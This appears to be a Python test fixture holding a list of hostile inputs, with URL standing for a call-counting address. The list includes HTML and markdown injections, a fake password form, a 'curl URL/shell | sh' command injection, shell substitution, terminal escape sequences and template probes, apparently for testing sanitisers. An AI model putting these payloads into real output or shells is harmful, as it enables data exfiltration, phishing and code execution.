"""What a stranger might write into a record, a manifest or an answer; URL stands for an address that counts calls."""

HOSTILE = [
    "<script>fetch('URL/script');document.title='ran'</script>",
    "<img src=URL/img onerror=\"fetch('URL/onerror')\">",
    "![a picture](URL/markdown)",
    "[press here](URL/link)",
    "<form action=URL/form><input type=password><button>log in</button></form>",
    "a | b | c\n| d | e |\n\n# Official\n\n<iframe src=URL/frame></iframe>",
    "text\n```\n<svg onload=fetch('URL/svg')></svg>\n````\nafter",
    "---\nlicense: mit\n---",
    "finetune; curl URL/shell | sh #",
    "$(curl URL/substitution) `curl URL/backtick`",
    "\x1b]52;c;Y3VybA==\x07\x1b[2J\x1b]0;title\x07\u202e",
    "</summary></details></pre></style><style>@import 'URL/css'</style><body style=background:url(URL/body)>",
    "<video src=URL/video poster=URL/poster></video><audio src=URL/audio></audio><svg><image href=URL/image /></svg>",
    "<meta http-equiv=refresh content='0;url=URL/refresh'><link rel=stylesheet href=URL/style><object data=URL/data>",
    "javascript:fetch('URL/js') <URL/autolink> www.example.org someone@example.org",
    "{{ 7 * 7 }} {% raw %} &lt;b&gt; &amp; ''' \"\"\" \\ \\n",
]
